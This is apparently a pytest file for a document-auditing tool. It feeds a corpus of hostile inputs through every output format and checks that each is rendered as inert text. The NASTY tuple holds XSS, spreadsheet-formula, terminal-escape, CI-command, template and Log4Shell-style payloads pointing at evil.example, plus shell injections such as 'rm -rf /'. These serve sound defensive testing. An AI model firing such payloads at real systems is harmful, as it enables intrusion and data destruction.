"""From a hostile corpus on a disk to every format: whatever it says is text, and nothing else, to everyone who reads it."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final
from xml.etree import ElementTree as ET

import junitparser
import msgspec
import pytest
from playwright.sync_api import Dialog, sync_playwright
from sarif_kit.validate import validation_errors

from tests.browser import launch, skip_without_chromium, window
from tests.commands import ours
from tests.test_formats import CodeQualityIssue, commands, tokens

# Each is code to somebody: a browser, a spreadsheet, a terminal, a runner, a shell, a template, a site.
NASTY: Final = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\" onfocus=alert(3) autofocus '</textarea></style></title>--><svg/onload=alert(4)>",
    "=HYPERLINK(\"http://evil.example\") +1 -1 @SUM(1) \t=cmd|' /C calc'!A0",
    "\x1b]0;owned\x07\x1b[31mred\x9b2J \u202eevitcefed\u2066 \x08\x7f",
    "::error file=a.md::b ##[error]c ::set-env name=A::b %0A::add-mask::d ]]> <!-- -->",
    "[x](javascript:alert(5)) ![y](http://evil.example/z) www.evil.example @team #1 `code` **bold** ~~gone~~ $x$ :smile: | \\|",
    "{{ 7*7 }} {% include 'x' %} ${jndi:ldap://evil.example} $(touch owned) `touch owned` ; rm -rf / && ../../owned",
)
UNSEEN: Final = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FORMATS: Final = ("text", "concise", "json", "jsonl", "sarif", "junit", "github", "gitlab", "csv", "markdown")
POLICY: Final = "default-src 'none'"


class Outline(HTMLParser):
    """The tags of a page, each with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def auditor(*arguments: str, folder: Path) -> subprocess.CompletedProcess[str]:
    ended = subprocess.run(
        [sys.executable, "-m", "auditor", *arguments],
        cwd=folder,
        env=ours(),
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert "Traceback" not in ended.stderr, ended.stderr
    return ended


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder whose documents, names, settings, ignores and decisions are hostile."""
    folder = tmp_path_factory.mktemp("hostile") / "work"
    docs = folder / "docs"
    docs.mkdir(parents=True)
    for number, nasty in enumerate(NASTY):
        flat = " ".join(nasty.replace("\n", " ").split())
        text = (
            f"# J9355 {nasty}\n\nJ9355 is {'atezolizumab' if number % 2 else 'bevacizumab'} {nasty}.\n\n"
            f"| Code | Brand | Drug | Unit |\n|---|---|---|---|\n| J9271 | {flat.replace('|', '/')} | pembrolizumab | {number + 1} mg |\n\n"
            f"HCPCS code J9299 describes {flat}mab. J937{number}l {nasty}\n\n"
            f'<!-- auditor: ignore[AUD303] reason="{flat.replace(chr(34), "")}" -->\n\n{nasty} J9354\n'
        )
        name = re.sub("[/\x00]", "_", nasty)[:80] + f"{number}.md"
        Path(os.fsdecode(os.fsencode(docs) + b"/" + name.encode())).write_text(text)
        Path(os.fsdecode(os.fsencode(docs) + b"/" + name.encode() + b".html")).write_text(
            f"<title>J9355 {nasty}</title>{text}"
        )
    (folder / "auditor.toml").write_text(
        'corpus = "docs"\nper-file-ignores."' + "\\\\x1b]0;x".replace("\\\\x1b", "\\u001b") + '" = ["AUD402"]\n'
    )
    auditor("check", folder=folder)
    for finding in json.loads(auditor("check", "--format", "json", folder=folder).stdout)["findings"][:4]:
        auditor(
            "triage",
            finding["fingerprint"],
            "accept",
            "--by",
            NASTY[2].replace("\x00", ""),
            "--reason",
            NASTY[0],
            folder=folder,
        )
    return folder


@pytest.fixture(scope="module")
def told(work: Path) -> dict[str, str]:
    """The report in every format that is one text."""
    made = {name: auditor("check", "--format", name, "--repairs", folder=work) for name in FORMATS}
    assert {ended.returncode for ended in made.values()} == {1}
    return {name: ended.stdout for name, ended in made.items()}


def test_something_was_found_in_all_of_it(told: dict[str, str]) -> None:
    report = json.loads(told["json"])
    assert {one["rule"] for one in report["findings"]} >= {"AUD101", "AUD103"}
    assert len(
        {place["document"] for one in report["findings"] for place in (one["primary"], *one["related"])}
    ) == 2 * len(NASTY)


@pytest.mark.parametrize("name", FORMATS)
def test_no_format_speaks_to_a_terminal(name: str, told: dict[str, str]) -> None:
    assert not UNSEEN.search(told[name])


@pytest.mark.parametrize(
    "command",
    [
        "extract", "extract --format csv", "extract --format jsonl", "extract --unclaimed", "explain J9355", "explain J9355 --format json",
        "graph", "graph --format dot", "history", "triage list", "config", "baseline write", "check --color always --format concise",
    ],
)  # fmt: skip
def test_no_command_speaks_to_a_terminal_or_to_a_runner(command: str, work: Path) -> None:
    ended = auditor(*command.split(), folder=work)
    shown = re.sub(r"\x1b\[[0-9;]*m", "", ended.stdout) if "always" in command else ended.stdout
    assert not UNSEEN.search(shown.replace("\t", " ").replace("\r\n", "\n")), command
    assert not UNSEEN.search(ended.stderr), command
    assert not re.search(r"^\s*::|##\[", ended.stderr, re.MULTILINE)


def test_a_diff_is_exact_for_programs_and_harmless_at_a_terminal(work: Path) -> None:
    assert "\x1b]0;owned" in auditor("fix", "--diff", folder=work).stdout
    ours_, theirs = os.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "auditor", "fix", "--diff"],
        cwd=work,
        env=ours(),
        stdout=theirs,
        stderr=subprocess.DEVNULL,
    )
    os.close(theirs)
    told = b""
    with contextlib.suppress(OSError):  # the other end is closed
        while part := os.read(ours_, 65_536):
            told += part
    os.close(ours_)
    assert process.wait() in {0, 1}
    assert b"\\x1b]0;owned" in told
    assert not UNSEEN.search(told.decode().replace("\r\n", "\n"))


def test_what_is_for_programs_is_read_by_their_parsers(told: dict[str, str]) -> None:
    assert [json.loads(line) for line in told["jsonl"].splitlines()]
    assert validation_errors(json.loads(told["sarif"])) == []
    assert junitparser.JUnitXml.fromstring(told["junit"].split("\n", 1)[1]).failures > 0
    assert msgspec.json.decode(told["gitlab"], type=list[CodeQualityIssue])


def test_no_runner_is_given_a_command_but_ours(told: dict[str, str]) -> None:
    assert {name for name, _, _ in commands(told["github"])} <= {"error", "warning", "notice"}
    assert "##[" not in told["github"]
    places = [properties.get("file", "") for _, properties, _ in commands(told["github"])]
    assert all(not place or place.startswith("docs/") for place in places)


def test_no_cell_is_a_formula(told: dict[str, str], work: Path) -> None:
    for text in (told["csv"], auditor("extract", "--format", "csv", folder=work).stdout):
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 10
        assert not [cell for row in rows for cell in row if re.match(r"\s*[=+\-@\t\r]", cell)]


def test_no_markdown_is_made_of_it(told: dict[str, str]) -> None:
    kinds = {token.type for token in tokens(told["markdown"])}
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "s_open", "strong_open", "fence"}


def test_no_address_of_a_result_leads_out(told: dict[str, str]) -> None:
    def addresses(value: Any) -> list[str]:
        if isinstance(value, list):
            return [found for one in value for found in addresses(one)]
        if isinstance(value, dict):
            own = [value["artifactLocation"]["uri"]] if "artifactLocation" in value else []
            return own + [found for one in value.values() for found in addresses(one)]
        return []

    uris = set(addresses(json.loads(told["sarif"])["runs"][0]["results"]))
    assert uris
    assert all(uri.startswith("docs/") and ".." not in uri.split("/") and ":" not in uri for uri in uris)


def test_drawings_hold_no_element_but_their_own(work: Path) -> None:
    for name, known in (("svg", {"svg", "title", "desc", "g", "rect", "text", "line", "path", "style", "a", "circle", "polyline", "tspan", "marker", "defs", "ellipse", "polygon"}), ("graphml", {"graphml", "key", "graph", "node", "edge", "data"})):  # fmt: skip
        drawn = ET.fromstring(auditor("graph", "--format", name, folder=work).stdout)  # noqa: S314 - our own
        assert {element.tag.rpartition("}")[2] for element in drawn.iter()} <= known
        assert not [one for element in drawn.iter() for one in element.attrib if one.lower().startswith("on")]
        assert not [one for element in drawn.iter() for one in element.attrib.values() if one.startswith("javascript:")]


@pytest.mark.parametrize("destination", ["report", "report.html"])
def test_the_pages_hold_no_tag_of_a_document(destination: str, work: Path) -> None:
    made = work.parent / destination
    assert auditor("check", f"--format=html={made}", folder=work).returncode == 1
    pages = [made] if made.is_file() else sorted(made.rglob("*.html"))
    assert len(pages) > 10 or made.is_file()
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert not UNSEEN.search(text), page
        [policy] = [
            str(attributes["content"])
            for tag, attributes in Outline(text).tags
            if tag == "meta" and "http-equiv" in attributes
        ]
        assert policy.startswith(POLICY)
        assert "unsafe" not in policy
        for tag, attributes in Outline(text).tags:
            assert not [
                one for one in attributes if one.startswith("on") or one in {"style", "srcdoc", "action", "autofocus"}
            ], page
            assert tag not in {"img", "iframe", "object", "embed", "form", "base"}, page
            assert not re.match(r"\s*(?:javascript|data|https?|//)", attributes.get("href") or ""), page
            assert (
                tag != "script"
                or not attributes.get("src")
                or "/" not in str(attributes["src"]).removeprefix("pages/").removeprefix("../")
            ), page
    inside = [path.resolve() for path in made.rglob("*")]
    assert all(path.is_relative_to(made.resolve()) for path in inside)


@pytest.mark.parametrize("destination", ["shown", "shown.html"])
def test_in_a_browser_the_pages_run_nothing_and_fetch_nothing(destination: str, work: Path) -> None:
    skip_without_chromium()
    made = work.parent / destination
    assert auditor("check", f"--format=html={made}", folder=work).returncode == 1
    did: list[str] = []

    def refuse(dialog: Dialog) -> None:
        did.append(dialog.message)
        dialog.dismiss()

    with sync_playwright() as playwright:
        browser = launch(playwright)
        page = window(browser).new_page()
        page.on("dialog", refuse)
        page.on("console", lambda message: did.append(message.text))
        page.on("pageerror", lambda error: did.append(str(error)))
        page.on("request", lambda request: did.append(request.url) if not request.url.startswith("file:") else None)
        for path in [made] if made.is_file() else sorted(made.rglob("*.html")):
            page.goto(path.as_uri())
            page.evaluate("document.querySelectorAll('*').forEach(one => one.focus?.())")
            for one in page.locator("input, summary").all()[:8]:
                one.dispatch_event("input")
                one.dispatch_event("click")
            did += page.evaluate(
                "[...document.querySelectorAll('img, iframe, object, embed, form, base')].map(one => one.outerHTML)"
            )
            leading_out = "[...document.links].map(one => one.href).filter(one => !one.startsWith('file:'))"
            did += page.evaluate(leading_out)
        browser.close()
    assert did == []


def test_nothing_of_it_was_run_or_written(work: Path) -> None:
    assert not [path for path in (*work.parent.iterdir(), *work.iterdir()) if "owned" in path.name]
